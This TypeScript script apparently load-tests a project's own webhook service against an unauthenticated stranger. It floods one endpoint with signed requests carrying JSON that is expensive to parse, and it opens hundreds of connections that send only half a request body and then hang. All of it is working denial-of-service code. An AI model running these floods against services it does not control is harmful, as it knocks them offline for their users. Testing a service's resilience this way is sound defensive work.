/**
 * `node attack.ts URL BYTES`: what a stranger can send to a webhook with nothing but its address, until it is ended: floods of
 * exchanges of so many bytes, and half bodies that stay. Says "ready" once it begins and "open" once all half bodies are sent;
 * with 0 bytes there are no floods.
 */
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { type Socket, connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { authorityOf, signedPath, signRequest, utf8 } from '@svault/shared';

const FLOODS = 8;
/** Of all floods together. */
const BITS_PER_SECOND = 15_000_000;
const HALF_BODIES = 600;
const HALF_BODIES_PER_SECOND = 200;
const MIB = 1024 * 1024;

const [, , url = '', bytes = '0'] = process.argv;
const { hostname, port } = new URL(url);
const open = async (): Promise<Socket> => {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined).resume();
  await once(socket, 'connect');
  return socket;
};

/** A forged exchange, correctly signed with the code that it names. */
function exchange(body: Uint8Array, code: string): Buffer {
  const path = '/v1/exchange';
  const headers = signRequest({
    method: 'POST',
    authority: authorityOf(url),
    path: signedPath(url, path),
    body,
    key: { id: 'bind', secret: utf8(code) },
    nowMs: Date.now(),
  });
  const lines = [...Object.entries(headers), ['content-length', String(body.length)], ['host', hostname]];
  const head = `POST ${path} HTTP/1.1\r\n${lines.map((line) => line.join(': ')).join('\r\n')}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

/** JSON that costs much to parse, as large as it may be. */
function hostile(bytes: number): Uint8Array {
  const code = randomUUID();
  const start = `{"code":"${code}","x":[0.5`;
  return utf8(`${start + ',0.5'.repeat(Math.floor((bytes - start.length - 2) / 4))}]}`);
}

/** One exchange after the other, as many as fit through the line. */
async function flood(bytes: number): Promise<void> {
  for (;;) {
    const socket = await open();
    const answered = Promise.race([once(socket, 'data'), once(socket, 'close')]);
    socket.write(exchange(hostile(bytes), randomUUID()));
    await answered.catch(() => undefined);
    socket.destroy();
    await delay((bytes * 8 * FLOODS * 1000) / BITS_PER_SECOND);
  }
}

/** Half of a body, and nothing more. */
async function halfBody(): Promise<void> {
  const socket = await open();
  const digest = createHash('sha256').update(randomBytes(8)).digest('base64');
  socket.write(
    `POST /v1/storage HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\n` +
      `content-digest: sha-256=:${digest}:\r\ncontent-length: ${MIB}\r\n\r\n`,
  );
  socket.write(Buffer.alloc(MIB / 2, 0x20));
}

const again = async (attack: () => Promise<void>): Promise<void> => {
  for (;;) await attack().catch(() => delay(10));
};
for (let at = 0; at < FLOODS; at += 1) if (bytes !== '0') void again(() => flood(Number(bytes)));
console.log('ready');
for (let at = 0; at < HALF_BODIES; at += 1) {
  await halfBody().catch(() => undefined);
  await delay(1000 / HALF_BODIES_PER_SECOND);
}
console.log('open');
